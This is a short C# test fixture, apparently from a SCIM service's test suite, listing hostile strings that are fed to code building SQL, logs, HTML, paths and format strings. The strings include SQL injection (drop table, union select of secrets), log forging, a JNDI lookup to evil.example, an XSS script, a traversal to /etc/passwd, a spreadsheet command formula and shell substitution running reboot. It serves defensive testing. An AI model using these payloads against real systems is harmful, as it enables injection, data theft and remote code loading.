namespace Scim.Tests.Hostile;

/// <summary>Texts that break what composes SQL, logs, HTML, paths or formats of strings.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "'; drop table resource; --",
        "' or '1'='1",
        "\" or \"\"=\"",
        "1; delete from attribute where 1=1 --",
        "x' union select secret from token --",
        "\\'; truncate audit; --",
        "%' or name like '%",
        "ann\r\n2026-01-01 INFO forged entry of the log",
        "ann\u001b[31mred\u001b[0m",
        "${jndi:ldap://evil.example/a}",
        "{0}{1}{{userName}}%s%n",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "=cmd|' /C calc'!A0",
        "\u202eevil\u202c",
        "a\u0301\u0323\uFFFD\uFEFF",
        "\U0001F4A9\U0010FFFF\uFFFF",
        "$(reboot)`reboot`",
    ];
}
